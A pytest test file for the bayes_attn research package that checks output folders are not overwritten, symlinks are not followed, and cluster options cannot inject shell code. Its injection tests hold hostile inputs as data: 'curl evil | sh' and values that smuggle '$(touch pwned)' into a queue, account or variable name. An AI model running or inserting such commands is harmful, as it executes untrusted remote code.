"""What a hostile but realistic user runs into: nothing deleted or run that was not asked for, verdicts earned.

One test (or more) per finding: default folders, foreign folders and files,
foreign manifests, linked locks, caches and cluster scripts, verdicts of
sweeps and pruning, one-line errors, what a fresh clone needs, and what the
README and figures say.
"""

import json
import shutil
import socket
import time
from pathlib import Path

import numpy as np
import pytest
import xarray as xr

import bayes_attn as ba
from bayes_attn import cli, outputs
from bayes_attn.spec import Spec, spec_from_dict
from conftest import TINY, forbid_calls as _forbid, one_line as _one_line, spec_file as _spec_file

ROOT = Path(__file__).resolve().parents[1]
THEORY_ONLY = TINY | {"compare": TINY["compare"] | {"widths": [3], "sample_widths": []}}
FAST = ["--samples", "10", "--warmup", "10", "--chains", "1", "--no-progress"]




# 1. default folders do not collide ---------------------------------------------------------------------
def test_theory_sample_and_run_have_their_own_default_folders(tmp_path, monkeypatch):
    from bayes_attn.run import pipeline
    from bayes_attn.sweep import table

    path = _spec_file(tmp_path)
    monkeypatch.chdir(tmp_path)
    assert cli.main(["theory", str(path)]) == 0
    theory = tmp_path / "runs" / "tiny-N3-theory"
    before = _snapshot(theory)
    assert "theory.nc" in before
    used = {}

    def record(command):
        def output_folder(folder, *a, **k):
            used[command] = Path(folder)
            raise ValueError("stop before computing")
        return output_folder

    for command, module in (("sample", pipeline), ("run", pipeline), ("sweep", table)):
        monkeypatch.setattr(module.outputs, "output_folder", record(command))
        assert cli.main([command, str(path), *FAST]) == cli.EXIT_USAGE
    assert used == {"sample": Path("runs/tiny-N3-sample"), "run": Path("runs/tiny-N3"), "sweep": Path("runs/tiny-sweep")}
    assert _snapshot(theory) == before


# 2. a folder the package did not write is refused; temporaries not named by the package are kept ---------------
def _users_folder(tmp_path):
    out = tmp_path / "mine"
    (out / "data" / "raw").mkdir(parents=True)
    (out / "data" / "raw" / "survey.csv.tmp").write_text("answers")
    (out / "backup.tar.tmp").write_text("backup")
    (out / ".staging-notes").mkdir()
    (out / ".staging-notes" / "todo.txt").write_text("notes")
    return out


def _snapshot(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_out_on_a_users_folder_is_refused_and_force_deletes_nothing_of_theirs(tmp_path, capsys, monkeypatch):
    path = _spec_file(tmp_path)
    out = _users_folder(tmp_path)
    before = _snapshot(out)
    with monkeypatch.context() as m:
        _forbid(m, (ba.run.pipeline, "solve_theory"))
        assert cli.main(["theory", str(path), "--out", str(out)]) == cli.EXIT_USAGE
    line = _one_line(capsys.readouterr().err)
    assert "did not write" in line and "--force" in line and "backup.tar.tmp" in line
    assert _snapshot(out) == before
    assert cli.main(["theory", str(path), "--out", str(out), "--force"]) == 0
    assert "removed" not in capsys.readouterr().err
    after = _snapshot(out)
    assert {k: v for k, v in after.items() if k in before} == before
    assert "theory.nc" in after


# 3. a foreign manifest.json is neither replaced nor read as a list of files to delete -----------------------------
def test_foreign_manifest_is_not_replaced_and_its_list_not_deleted(tmp_path):
    out = tmp_path / "site"
    out.mkdir()
    (out / "index.html").write_text("<html>")
    (out / "app.js").write_text("js")
    mine = json.dumps({"files": ["index.html", "app.js"], "name": "my app"})
    (out / "manifest.json").write_text(mine)
    with pytest.raises(outputs.ForeignFolderError, match="did not write"):
        with outputs.output_folder(out):
            pass
    with pytest.raises(outputs.ClashError, match="holds manifest.json, which this package did not write"):
        with outputs.output_folder(out, force=True):
            pytest.fail("computing started although manifest.json would be replaced")
    assert (out / "index.html").read_text() == "<html>" and (out / "app.js").read_text() == "js"
    assert (out / "manifest.json").read_text() == mine
    assert sorted(p.name for p in out.iterdir()) == ["app.js", "index.html", "manifest.json"]  # no lock left behind


def test_own_manifest_removes_what_its_run_wrote_and_the_next_does_not(tmp_path):
    out = tmp_path / "o"
    with outputs.output_folder(out) as stage:
        stage.path("a.txt").write_text("1")
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["format"] == outputs.FORMAT and manifest["files"] == ["a.txt"] and len(manifest["run_id"]) == 32
    (out / "index.html").write_text("<html>")  # the user's, added later
    with outputs.output_folder(out) as stage:
        stage.path("b.txt").write_text("2")
    assert not (out / "a.txt").exists() and (out / "index.html").exists()


# 4. a .lock symbolic link is not written through ------------------------------------------------------------
def test_lock_symlink_is_refused_not_followed(tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "received"
    out.mkdir()
    (out / ".lock").symlink_to(victim)
    assert cli.main(["theory", str(_spec_file(tmp_path)), "--out", str(out)]) == cli.EXIT_USAGE
    assert "not a plain file" in _one_line(capsys.readouterr().err)
    assert victim.read_text() == "precious"


def test_staging_symlink_is_neither_followed_nor_an_error(tmp_path, capsys):
    path = _spec_file(tmp_path)
    out = tmp_path / "o"
    assert cli.main(["theory", str(path), "--out", str(out)]) == 0
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("keep")
    (out / ".bayes_attn-staging-evil").symlink_to(elsewhere)
    (out / ".staging-evil").symlink_to(elsewhere)
    (out / ".bayes_attn-abc.nc.tmp").symlink_to(elsewhere / "keep.txt")
    assert cli.main(["theory", str(path), "--out", str(out)]) == 0
    assert (elsewhere / "keep.txt").read_text() == "keep"


# 5. no code from a received folder: compilation cache and cluster scripts ------------------------------------------
def test_dask_compilation_cache_lives_in_the_users_cache_folder(tmp_path, monkeypatch):
    from bayes_attn.sweep import table

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.delenv("BAYES_ATTN_COMPILE_CACHE", raising=False)
    monkeypatch.delenv("BAYES_ATTN_NO_COMPILE_CACHE", raising=False)
    monkeypatch.setattr(cli, "enable_compile_cache", lambda on: None)  # JAX's cache stays off in this process
    seen = {}

    def fake_sweep(spec, out, executor=None, **kw):
        seen["executor"], seen["out"] = executor, out
        raise ValueError("stop here")

    monkeypatch.setattr(table, "sweep", fake_sweep)
    out = tmp_path / "sw"
    assert cli.main(["sweep", str(_spec_file(tmp_path)), "--out", str(out), "--executor", "dask",
                     "--workers", "1"]) == cli.EXIT_USAGE
    cache = Path(seen["executor"].compilation_cache)
    assert cache == tmp_path / "cache" / "bayes_attn" / "jax"
    assert out.resolve() not in cache.resolve().parents


def test_cluster_options_cannot_inject_shell_commands():
    pytest.importorskip("dask_jobqueue")
    from bayes_attn.sweep.executors import DaskJobqueue

    with pytest.raises(ValueError, match="shell code"):
        DaskJobqueue("SLURMCluster", {"job_script_prologue": ["curl evil | sh"]}, workers=1)
    with pytest.raises(ValueError, match="line break"):
        DaskJobqueue("SLURMCluster", {"queue": "normal\ncurl evil | sh"}, workers=1)
    with pytest.raises(ValueError, match="variable names"):
        DaskJobqueue("SLURMCluster", {}, workers=1, env={"A=1; curl evil | sh; B": "x"})
    with pytest.raises(ValueError, match="unknown SLURMCluster option"):
        DaskJobqueue("SLURMCluster", {"not_an_option": 1}, workers=1)
    ex = DaskJobqueue("SLURMCluster", {"queue": "normal; touch pwned", "account": "$(touch pwned)", "cores": 1,
                                       "memory": "1GB"}, workers=1)
    with ex.make_cluster() as cluster:
        script = cluster.job_script()
    assert "'normal; touch pwned'" in script and "'$(touch pwned)'" in script


# 6. verdicts of sweeps and pruning are earned --------------------------------------------------------------
@pytest.mark.slow
def test_sweep_on_unconverged_chains_is_inconclusive_and_exits_3(tmp_path, capsys):
    out = tmp_path / "sw"
    status = cli.main(["sweep", str(_spec_file(tmp_path)), "--out", str(out), "--widths", "3", "--sample-widths", "3",
                       "--samples", "8", "--warmup", "4", "--chains", "2", "--seed", "2", "--no-progress"])
    err = capsys.readouterr().err
    assert status == cli.EXIT_DIAGNOSTICS, err
    assert "WARNING: inconclusive" in err and "N=3" in err
    ds = xr.open_dataset(out / "sweep.nc")
    assert ds.attrs["verdict"] == "inconclusive" and str(ds["verdict"].sel(sample_width=3).values) == "inconclusive"
    assert np.isnan(float(ds["accuracy_sampled_se"].sel(sample_width=3)))  # 2 chains: unavailable, not 0
    ds.close()
    assert json.loads((out / "manifest.json").read_text())["verdict"] == "inconclusive"


def test_inconclusive_points_are_ringed_in_the_sweep_figure(tmp_path):
    from bayes_attn.run import figures

    ds = xr.Dataset(
        {"accuracy_theory": ("width", [0.8, 0.9]), "accuracy_sampled": ("sample_width", [0.7, 0.85]),
         "accuracy_sampled_se": ("sample_width", [np.nan, 0.01]), "verdict": ("sample_width", ["inconclusive", "agree"]),
         "accuracy_gp": ("gp_model", [0.7]),
         "U_theory": (("width", "path", "path_"), np.ones((2, 1, 1))),
         "U_sampled": (("sample_width", "path", "path_"), np.ones((2, 1, 1))),
         "U_mcse": (("sample_width", "path", "path_"), np.zeros((2, 1, 1)))},
        coords={"width": [3, 30], "sample_width": [3, 30], "gp_model": ["whole"], "path": ["1-1"], "path_": ["1-1"]})
    assert figures.inconclusive_points(ds).tolist() == [True, False]
    calls = []
    real = figures.Figure.subplots

    def spy(fig, *a, **k):
        axes = real(fig, *a, **k)
        calls.append(axes)
        return axes

    with pytest.MonkeyPatch.context() as m:
        m.setattr(figures.Figure, "subplots", spy)
        figures.sweep_accuracy(ds, tmp_path / "a.png")
    ax = calls[0][0]
    labels = ax.get_legend_handles_labels()[1]
    assert any("inconclusive" in label for label in labels) and any("none: < 3 chains" in label for label in labels)


def test_prune_verdict_from_rhat_and_divergences(tmp_path, capsys, monkeypatch):
    from bayes_attn.oneshot import pipeline

    ds = xr.Dataset({"rhat_U": ("sample_width", [2.49, 1.0]), "divergences": ("sample_width", [9, 0])},
                    coords={"sample_width": [10, 100]})
    outputs.save(ds, tmp_path / "oneshot.nc")
    v = pipeline.sampling_verdict(tmp_path / "oneshot.nc")
    assert v["verdict"] == "inconclusive" and "N=10" in v["inconclusive_reasons"][0]
    assert "R-hat 2.49" in v["inconclusive_reasons"][0] and "9 divergent" in v["inconclusive_reasons"][0]
    report = {"spearman": {"rho": 0.5, "p_value": 0.1}, "base_accuracy": 0.9, "base_se": 0.01} | v
    monkeypatch.setattr(pipeline, "run_oneshot", lambda *a, **k: report)
    assert cli.main(["prune", "--out", str(tmp_path / "p")]) == cli.EXIT_DIAGNOSTICS
    captured = capsys.readouterr()
    assert "WARNING: inconclusive" in captured.err and captured.out.count("wrote") == 1


# 7. one-line errors, before computing ---------------------------------------------------------------------------
@pytest.mark.parametrize("case", ["missing", "file", "no_zip"])
def test_prune_bad_data_dir_is_one_line(tmp_path, capsys, monkeypatch, case):
    from bayes_attn.oneshot import pipeline

    (tmp_path / "a_file").write_text("x")
    (tmp_path / "empty").mkdir()
    where = {"missing": tmp_path / "nope", "file": tmp_path / "a_file", "no_zip": tmp_path / "empty"}[case]
    _forbid(monkeypatch, (pipeline, "datasets"))
    assert cli.main(["prune", "--data-dir", str(where), "--out", str(tmp_path / "p")]) == cli.EXIT_USAGE
    line = _one_line(capsys.readouterr().err)
    assert "data_dir" in line and {"missing": "does not exist", "file": "is a file", "no_zip": "lacks"}[case] in line
    assert not (tmp_path / "p").exists()


@pytest.mark.parametrize("change", [{"n_train": 10**8}, {"feature_dim": 10**7}])
def test_huge_task_is_refused_before_allocating(tmp_path, capsys, change):
    path = tmp_path / "big.toml"
    path.write_text(spec_from_dict(TINY).to_toml().replace("n_train = 12", f"n_train = {change.get('n_train', 12)}")
                    .replace("feature_dim = 8", f"feature_dim = {change.get('feature_dim', 8)}"))
    assert cli.main(["theory", str(path), "--out", str(tmp_path / "o")]) == cli.EXIT_USAGE
    assert "of memory" in _one_line(capsys.readouterr().err)


@pytest.mark.parametrize("argv, match", [(["theory", "--width", str(10**23)], "--width must be an integer between"),
                                         (["sample", "--seed", str(2**70)], "--seed must be an integer between"),
                                         (["sweep", "--widths", "3", str(10**23)], "--widths must be an integer between")])
def test_huge_width_or_seed_is_a_usage_error(capsys, monkeypatch, argv, match):
    from bayes_attn import spec

    _forbid(monkeypatch, (spec.Spec, "data"))
    t0 = time.perf_counter()
    assert cli.main(argv) == cli.EXIT_USAGE and time.perf_counter() - t0 < 5
    assert match in _one_line(capsys.readouterr().err)
    with pytest.raises(ValueError, match="sampler.seed must be an integer between"):
        spec_from_dict(TINY | {"sampler": TINY["sampler"] | {"seed": 2**70}})


def test_disk_full_is_one_line(tmp_path, capsys, monkeypatch):
    def full(*a, **k):
        raise RuntimeError("NetCDF: HDF error")

    monkeypatch.setattr(xr.Dataset, "to_netcdf", full)
    monkeypatch.setattr(xr.Dataset, "dump_to_store", full)  # how bayes_attn._io writes a Dataset in memory
    monkeypatch.setattr(shutil, "disk_usage", lambda p: shutil._ntuple_diskusage(10**9, 10**9, 0))
    assert cli.main(["theory", str(_spec_file(tmp_path)), "--out", str(tmp_path / "o")]) == cli.EXIT_USAGE
    line = _one_line(capsys.readouterr().err)
    assert "no space left" in line and "MiB free" in line
    assert not list((tmp_path / "o").glob("*.nc"))


def test_cluster_without_its_submit_command_fails_before_computing(tmp_path, capsys, monkeypatch):
    pytest.importorskip("dask_jobqueue")
    from bayes_attn.sweep import table

    monkeypatch.setenv("PATH", str(tmp_path))  # no sbatch here
    _forbid(monkeypatch, (table, "sweep"))
    data = THEORY_ONLY | {"cluster": {"class": "SLURMCluster", "workers": 1, "cores": 1, "memory": "1GB"}}
    assert cli.main(["sweep", str(_spec_file(tmp_path, data)), "--out", str(tmp_path / "s"), "--executor",
                     "dask"]) == cli.EXIT_USAGE
    assert "'sbatch', which is not on PATH" in _one_line(capsys.readouterr().err)


def test_unreachable_scheduler_fails_fast(tmp_path, capsys, monkeypatch):
    from bayes_attn.sweep import table

    _forbid(monkeypatch, (table, "sweep"))
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    t0 = time.perf_counter()
    assert cli.main(["sweep", str(_spec_file(tmp_path, THEORY_ONLY)), "--out", str(tmp_path / "s"), "--executor",
                     "dask", "--scheduler", f"tcp://127.0.0.1:{port}"]) == cli.EXIT_USAGE
    assert time.perf_counter() - t0 < 10
    assert "cannot be reached" in _one_line(capsys.readouterr().err)


def test_ctrl_c_is_one_line(tmp_path, capsys, monkeypatch):
    from bayes_attn.run import pipeline

    def interrupt(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "solve_theory", interrupt)
    assert cli.main(["theory", str(_spec_file(tmp_path)), "--out", str(tmp_path / "o")]) == cli.EXIT_INTERRUPTED
    assert "interrupted" in _one_line(capsys.readouterr().err)


def test_corrupt_json_attribute_is_a_corrupt_file(tiny, tmp_path):
    import netCDF4

    net, x, y, _ = tiny
    path = ba.solve_theory(net, x, y, temperature=0.5).save(tmp_path / "theory.nc")
    with netCDF4.Dataset(path, "a") as f:
        f.setncattr("head_names", "[[\"a\", ")
    with pytest.raises(outputs.CorruptFileError, match="head_names"):
        ba.load_theory(path)


def test_other_version_missing_versions_and_unknown_sampler(tmp_path, monkeypatch):
    ds = xr.Dataset({"a": ("i", [1.0, 2.0])})
    outputs.save(ds, tmp_path / "ok.nc")
    outputs.load_dataset(tmp_path / "ok.nc")  # this version: no warning (pytest -W error would show one)
    ds.to_netcdf(tmp_path / "bare.nc")
    with pytest.warns(RuntimeWarning, match="records no package versions"):
        outputs.load_dataset(tmp_path / "bare.nc")
    outputs.save(ds.assign_attrs(versions=json.dumps({"bayes_attn": "0.0.1"})), tmp_path / "old.nc")
    with pytest.warns(RuntimeWarning, match="written by bayes_attn 0.0.1"):
        outputs.load_dataset(tmp_path / "old.nc")
    outputs.save(ds.assign_attrs(sampler="magic"), tmp_path / "magic.nc")
    with pytest.raises(outputs.CorruptFileError, match="sampler 'magic'"):
        outputs.load_dataset(tmp_path / "magic.nc", samplers=ba.samplers.SAMPLERS)
    import inspect

    assert "samplers=SAMPLERS" in inspect.getsource(ba.posterior.load_posterior)  # posteriors are loaded so


# 8. the theory is documented in the repository ------------------------------------------------------------------
def test_theory_documentation_ships_and_is_pointed_to(capsys):
    doc = (ROOT / "docs" / "theory.md").read_text()
    for section in ("Network", "Attention paths", "Order parameters", "action", "GP limit", "Head scores",
                    "Wishart", "Omniglot", "Laplace"):
        assert section.lower() in doc.lower(), section
    readme = (ROOT / "README.md").read_text()
    assert "THEORY.md" not in readme and "docs/theory.md" in readme
    for command in ("theory", "prune"):
        with pytest.raises(SystemExit):
            cli.main([command, "--help"])
        out = capsys.readouterr().out
        assert "THEORY.md" not in out and "docs/theory.md" in out


# 9. README numbers and figure labels match the commands ------------------------------------------------------
def test_readme_demo_numbers_match_the_default_spec():
    readme = " ".join((ROOT / "README.md").read_text().split())
    chains = Spec().sampler.num_chains
    assert f"`{Spec().sampler.name}` sampler with {chains} chains" in readme


def test_log_axis_ticks_are_plain_numbers_and_heatmap_numbers_readable():
    from matplotlib.figure import Figure

    from bayes_attn.run import figures

    fig = Figure()
    ax = fig.subplots()
    ax.plot([3, 6, 30, 300], [1, 2, 3, 4])
    ax.set_xscale("log")
    figures.plain_log_ticks(ax, "x")
    fig.canvas.draw()
    labels = [t.get_text() for t in ax.get_xticklabels() + ax.get_xticklabels(minor=True) if t.get_text()]
    assert labels and all("times" not in s and "^" not in s for s in labels), labels
    M = np.array([[1.0, 0.0], [0.0, -1.0]])
    heat = Figure().subplots()
    figures.heatmap(heat, M, ["a", "b"], "t", 1.0)
    colours = {t.get_text(): t.get_color() for t in heat.texts}
    assert colours["1.00"] == "white" and colours["0.00"] == "black"


def test_messages_go_through_logging_quiet_or_verbose(tmp_path, capsys):
    """Library messages use the ``logging`` module: shown at the command's default level, hidden by --no-progress."""
    import logging

    def stale_then_hold(level):
        folder = tmp_path / f"o{level}"
        folder.mkdir()
        (folder / outputs.MARKER).touch()
        (folder / ".bayes_attn-abc.nc.tmp").write_text("left by a killed run")
        cli.configure_logging(level)
        with outputs.output_folder(folder):
            pass
        return capsys.readouterr().err

    assert "removed 1 temporary file(s)" in stale_then_hold(logging.INFO)
    assert stale_then_hold(logging.WARNING) == ""
    logging.getLogger("bayes_attn.cli").warning("look")
    assert capsys.readouterr().err == "WARNING: look\n"
